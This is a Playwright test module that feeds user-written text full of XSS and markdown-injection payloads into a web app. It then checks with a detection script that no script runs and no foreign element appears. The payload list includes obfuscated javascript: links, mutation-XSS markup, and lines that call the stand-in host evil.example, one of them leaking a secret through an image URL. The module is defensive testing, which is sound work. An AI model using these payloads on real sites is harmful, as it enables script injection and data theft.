"""What somebody writes who wants his words to become a program, and how that would show."""

from playwright.sync_api import Page, expect

PAYLOADS = [
    "<script>window.hacked=1</script>",
    "<img src=x onerror=window.hacked=1>",
    "[here](javascript:window.hacked=1)",
    "[here](&#106;avascript:window.hacked=1)",
    "[here](JaVaScRiPt&colon;window.hacked=1)",
    "[here](java\tscript:window.hacked=1)",
    "[here](data:text/html,<script>window.hacked=1</script>)",
    "[here](vbscript:window.hacked=1)",
    "[here](//evil.example/a) <https://evil.example/b>",
    "[аpple.com](https://xn--pple-43d.com/a)",
    "<svg onload=window.hacked=1>",
    "<svg><animate onbegin=window.hacked=1 attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1></style></mglyph>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<details open ontoggle=window.hacked=1>x</details>",
    '[here](https://example.org "onmouseover=window.hacked=1")',
    "<a href='javascript:window.hacked=1' style='position:fixed;inset:0'>x</a>",
    "![pixel](https://evil.example/?q=SECRET)",
    "<form action=https://evil.example><button>x</button></form>",
    "<base href=https://evil.example/><meta http-equiv=refresh content=0>",
    "<template><script>window.hacked=1</script></template><noscript><p title='</noscript><b>'>",
    "</textarea></title></script><script>window.hacked=1</script>",
    "\" autofocus onfocus=window.hacked=1 x=\"' onclick=window.hacked=1 '",
    "{{ 7|add:7 }}{% load static %}${window.hacked=1}",
    "```html\n<script>window.hacked=1</script>\n```",
    "&lt;script&gt;window.hacked=1&lt;/script&gt; <scr<script>ipt>window.hacked=1",
    "<link rel=stylesheet href=https://evil.example/a.css><object data=//evil.example></object>",
]
FOREIGN = "script, img, svg, math, iframe, form, base, meta, style, object, embed, input, [style]"
"""Elements that no words of anybody may become."""
TEXT = "\n\n".join(PAYLOADS)
LINE = " ".join(each.replace("\n", " ") for each in PAYLOADS)

STRANGE = """() => {
    const never = "iframe, object, embed, base, math, mglyph, frame, applet, animate, set, portal";
    const program = /^[\\s\\0-\\x20]*(javascript|vbscript|data):/i;
    const loads = { script: "src", img: "src", link: "href", form: "action", use: "href" };
    const isForeign = address => new URL(address, location.href).origin !== location.origin;
    const isBad = ({ name, value }) => name.startsWith("on") || name === "srcdoc"
        || (/href|src|action/.test(name) && program.test(value));
    return [...document.querySelectorAll("*")].filter(one =>
        one.matches(never)
        || one.matches("script:not([src]):not([type='application/json']), meta[http-equiv]")
        || [...one.attributes].some(isBad)
        || isForeign(one.getAttribute(loads[one.localName] || "") || "")
    ).map(one => one.outerHTML.slice(0, 200));
}"""


def expect_harmless(page: Page) -> None:
    """Besides, visitors complain of dialogs, foreign requests and a broken policy."""
    assert page.evaluate(STRANGE) == []
    assert page.evaluate("() => window.hacked") is None


def expect_plain_transcript(page: Page) -> None:
    """Of the page's own there are buttons and symbols, but not within what somebody wrote."""
    written = page.locator(".question-text, .blocks, .tail, .source-text, .source-title")
    assert written.count()
    expect(written.locator(FOREIGN)).to_have_count(0)
